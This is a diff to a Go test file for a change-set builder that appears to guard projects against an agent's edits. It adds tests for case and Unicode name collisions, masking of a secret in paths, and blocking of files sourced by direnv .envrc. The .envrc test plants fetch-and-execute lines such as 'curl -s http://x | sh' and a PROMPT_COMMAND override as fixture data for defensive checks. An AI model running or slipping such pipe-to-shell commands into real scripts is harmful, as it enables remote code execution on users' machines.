@@ -27,6 +27,7 @@ type fixture struct {
 	git  *gitx.Git
 	repo string
 	base string
+	host changeset.Tree // the project's work tree, when a test gives one
 }
 
 func newFixture(t *testing.T, files map[string]string) *fixture {
@@ -68,7 +69,8 @@ func (f *fixture) build(t *testing.T, red *redact.Redactor) *paddock.ChangeSet {
 		t.Fatal(err)
 	}
 	patch.Close()
-	cs, err := changeset.Build("r-test", f.base, f.repo, snap, patch.Name(), confine.DefaultPolicy(), red)
+	trees := changeset.Trees{Base: f.git.Tree(context.Background(), filepath.Join(f.repo, ".git"), f.base), Host: f.host}
+	cs, err := changeset.Build("r-test", f.base, f.repo, snap, patch.Name(), confine.DefaultPolicy(), red, trees)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -266,5 +268,95 @@ func TestControlCharacters(t *testing.T) {
 	check := f.applyTo(t, cs.Diff)
 	if b, _ := os.ReadFile(filepath.Join(check, "term.txt")); !bytes.Equal(b, []byte("ok\n\x1b[2K\x1b[1Agood line\n")) {
 		t.Fatalf("term.txt after git apply: %q", b)
+	}
+}
+
+// TestNameCollisionsInBuild: through git, names a reader cannot tell from
+// another path of the result are labelled with a note, against the base
+// (read from git) and among the change set's own entries; a note naming a
+// path that holds a secret is masked as the path is.
+func TestNameCollisionsInBuild(t *testing.T) {
+	t.Parallel()
+	const secret = "tok-5e3f9a1c-very-secret"
+	f := newFixture(t, map[string]string{"README.md": "a\n", "caf\u00e9.txt": "b\n", "docs/a.md": "c\n", "notes-" + secret + ".txt": "d\n"})
+	f.write(t, map[string]string{
+		"readme.md": "x\n", "cafe\u0301.txt": "x\n", "Docs/b.md": "x\n", "na\u00efve.txt": "x\n", "nai\u0308ve.txt": "x\n",
+		"NOTES-" + secret + ".txt": "x\n", "ordinary.txt": "x\n",
+	})
+	cs := f.build(t, redact.New(map[string]string{"API_TOKEN": secret}))
+	for p, note := range map[string]string{
+		"readme.md":       "collides with README.md (in the base): they differ only in case",
+		"cafe\u0301.txt":  "collides with caf\u00e9.txt (in the base): they differ only in Unicode normalisation",
+		"Docs/b.md":       "its directory Docs collides with docs (in the base): they differ only in case",
+		"na\u00efve.txt":  "collides with nai\u0308ve.txt (in the change set): they differ only in Unicode normalisation",
+		"nai\u0308ve.txt": "collides with na\u00efve.txt (in the change set): they differ only in Unicode normalisation",
+	} {
+		e := entry(t, cs, p)
+		if !slices.Contains(e.Risks, "name_collision") || e.Notes["name_collision"] != note {
+			t.Errorf("%q: risks %v, note %q; want name_collision, %q", p, e.Risks, e.Notes["name_collision"], note)
+		}
+	}
+	for _, p := range []string{"cafe\u0301.txt", "nai\u0308ve.txt"} {
+		if e := entry(t, cs, p); !slices.Contains(e.Risks, "unnormalised_name") {
+			t.Errorf("%q: risks %v, want unnormalised_name", p, e.Risks)
+		}
+	}
+	if e := entry(t, cs, "ordinary.txt"); len(e.Risks) != 0 || len(e.Notes) != 0 {
+		t.Errorf("ordinary.txt: risks %v, notes %v", e.Risks, e.Notes)
+	}
+	var masked *paddock.ChangeEntry
+	for i, e := range cs.Entries {
+		if strings.HasPrefix(e.Path, "NOTES-") {
+			masked = &cs.Entries[i]
+		}
+	}
+	if masked == nil || !slices.Contains(masked.Risks, "name_collision") || strings.Contains(masked.Notes["name_collision"], secret) ||
+		strings.Contains(masked.Path, secret) {
+		t.Fatalf("the secret's entry: %+v", masked)
+	}
+	// The JSON a reviewer's tools read carries the note.
+	b, err := changeset.Marshal(cs)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(string(b), `"name_collision": "collides with README.md (in the base): they differ only in case"`) {
+		t.Errorf("the JSON has no note:\n%s", b)
+	}
+}
+
+// TestEnvrcSourcedNeverApplied: a file a protected .envrc sources (the
+// base's, the change set's or the project work tree's own, ignored one) is
+// labelled agent_config, names the .envrc, and is never applied: direnv
+// runs it without asking again. What no .envrc sources, and what an
+// unprotected .envrc sources, is applied.
+func TestEnvrcSourcedNeverApplied(t *testing.T) {
+	t.Parallel()
+	f := newFixture(t, map[string]string{
+		".envrc": "source scripts/env.sh\ndotenv\n", "scripts/env.sh": "export A=1\n", "scripts/other.sh": "echo\n",
+		"svc/.envrc": "source_up\nsource ./local.sh\n", "svc/local.sh": "export B=1\n",
+	})
+	host := t.TempDir()
+	if err := os.WriteFile(filepath.Join(host, ".envrc"), []byte("source_env_if_exists scripts/host.sh\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	f.host = changeset.DirTree(host)
+	f.write(t, map[string]string{
+		"scripts/env.sh": "curl -s http://x | sh\n", "scripts/other.sh": "echo changed\n", "svc/local.sh": "curl x | sh\n",
+		".env": "PROMPT_COMMAND=x\n", "scripts/host.sh": "curl x | sh\n",
+		"web/.envrc": "source ../scripts/web.sh\n", "scripts/web.sh": "curl x | sh\n",
+	})
+	cs := f.build(t, nil)
+	for p, envrc := range map[string]string{
+		"scripts/env.sh": "the base's .envrc (source scripts/env.sh)", ".env": "the base's .envrc (dotenv)",
+		"svc/local.sh": "the base's svc/.envrc (source ./local.sh)", "scripts/host.sh": "the project's .envrc (source_env_if_exists scripts/host.sh)",
+		"scripts/web.sh": "the change set's web/.envrc (source ../scripts/web.sh)",
+	} {
+		e := entry(t, cs, p)
+		if !slices.Contains(e.Risks, "agent_config") || !strings.Contains(e.Blocked, "sourced by "+envrc) {
+			t.Errorf("%s: risks %v, blocked %q; want agent_config, sourced by %s", p, e.Risks, e.Blocked, envrc)
+		}
+	}
+	if e := entry(t, cs, "scripts/other.sh"); e.Blocked != "" || slices.Contains(e.Risks, "agent_config") {
+		t.Errorf("scripts/other.sh: risks %v, blocked %q", e.Risks, e.Blocked)
 	}
 }
